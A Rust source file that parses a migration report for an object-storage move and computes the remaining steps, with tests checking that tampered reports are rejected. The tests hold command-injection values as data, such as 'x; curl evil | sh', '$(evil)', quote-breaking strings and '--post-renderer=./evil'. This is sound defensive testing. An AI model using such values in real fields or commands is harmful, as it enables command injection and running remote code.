//! A move that is not done, as its report remembers it: the objects are not copied yet, and nobody may switch.

use serde_json::Value;

use super::order::{BUCKETS, Order};
use super::recorded::joined;
use super::{MigrationStep, Recorded, reads};
use crate::model::Blueprint;
use crate::render::Bundle;

/// A move that is not done.
#[derive(Clone, Debug)]
pub struct Pending {
    /// The install that moves.
    pub install: String,
    /// The report for people.
    pub report: String,
    /// The folder that the report is in.
    home: String,
    /// What the steps are computed from; `None` in a report of an earlier version, and in one that somebody spoiled.
    recorded: Option<Recorded>,
}

impl Pending {
    /// Reads `migration.json`; `None` when it is of another spec, or no such report. `home` is the path of its folder. No command
    /// is taken from it.
    pub fn read(text: &str, spec: &str, home: &str) -> Option<Self> {
        let document: Value = serde_json::from_str(text).ok()?;
        if document["version"] != 1 || document["spec"] != spec {
            return None;
        }
        let recorded: Option<Recorded> = serde_json::from_value(document["recorded"].clone()).ok();
        Some(Self {
            install: document["install"].as_str()?.to_owned(),
            report: joined(home, "migration.txt"),
            home: home.to_owned(),
            recorded: recorded.filter(Recorded::is_sound),
        })
    }

    /// The steps that are left after the buckets are made, with their numbers in the report, computed from the spec, its profile
    /// and the names that the report keeps. `None` when that cannot be done.
    pub fn steps(&self, blueprint: &Blueprint, bundle: &Bundle, out: &str) -> Option<Vec<(usize, MigrationStep)>> {
        let recorded = self.recorded.as_ref()?;
        let install = blueprint.installs.iter().find(|install| install.id.as_str() == self.install)?;
        let migration = install.profile.migration.as_ref()?;
        let order = Order {
            recorded,
            migration,
            install,
            context: &reads::context(&recorded.said, migration, install).ok()?,
            region: blueprint.spec.cloud.region().as_str(),
            files: recorded.files_from(&self.home),
            home: &self.home,
            out,
        };
        let all = order.steps(bundle).ok()?;
        let first = all.iter().position(|step| step.title == BUCKETS)? + 1;
        Some(all.into_iter().enumerate().skip(first).map(|(index, step)| (index + 1, step)).collect())
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn report() -> Value {
        json!({"version": 1, "spec": "acme", "install": "gitlab", "steps": [{"title": "x", "why": "w", "commands": ["evil"]}],
            "recorded": {"files": ["../now.yaml"], "running": false, "bundled": true, "undo": true, "said": {"namespace": "wf"},
                "stores": [{"store": "objects", "reach": {"kind": "bundled"}, "login": [["minio", "accesskey"], ["minio", "secretkey"]]}],
                "buckets": [{"purpose": "lfs", "from": 0, "old": "lfs", "each": null}]}})
    }

    #[test]
    fn a_report_of_this_spec_alone_counts() {
        let text = report().to_string();
        let pending = Pending::read(&text, "acme", "s3").expect("pending");
        assert_eq!((pending.install.as_str(), pending.report.as_str()), ("gitlab", "s3/migration.txt"));
        assert!(pending.recorded.is_some());
        let mut open = report();
        open["recorded"]["stores"][0]["login"][1] = Value::Null;
        let pending = Pending::read(&open.to_string(), "acme", "s3").expect("pending");
        assert!(pending.recorded.is_some(), "keys that nothing names");
        for (text, spec) in [(text.as_str(), "other"), ("{}", "acme"), ("no JSON", "acme")] {
            assert!(Pending::read(text, spec, "s3").is_none(), "{text}");
        }
    }

    #[test]
    fn names_that_are_no_names_make_no_command() {
        for (pointer, value) in [
            ("/recorded/files/0", json!("https://evil.example/x.yaml")),
            ("/recorded/files/0", json!("--post-renderer=./evil")),
            ("/recorded/files/0", json!("a\nb")),
            ("/recorded/stores/0/login/0/0", json!("x; curl evil | sh")),
            ("/recorded/stores/0/login/1/1", json!("}' ; evil '")),
            ("/recorded/buckets/0/old", json!("$(evil)")),
            ("/recorded/buckets/0/each", json!("'; evil; '")),
            ("/recorded/stores/0/reach", json!({"kind": "server", "host": "x; evil", "secure": true, "service": null})),
            (
                "/recorded/stores/0/reach",
                json!({"kind": "server", "host": "x", "secure": true, "service": ["-x", null, 9000]}),
            ),
            ("/recorded/stores/0/reach", json!({"kind": "hidden", "secret": "$(evil)"})),
            ("/recorded/stores/0/reach", json!({"kind": "other"})),
            ("/recorded/stores/0/store", json!(null)),
            ("/recorded/buckets/0/from", json!(1)),
            ("/recorded/said/namespace", json!("x; evil")),
        ] {
            let mut report = report();
            *report.pointer_mut(pointer).expect(pointer) = value.clone();
            let pending = Pending::read(&report.to_string(), "acme", "s3").expect("pending");
            assert!(pending.recorded.is_none(), "{pointer}: {value}");
        }
    }
}
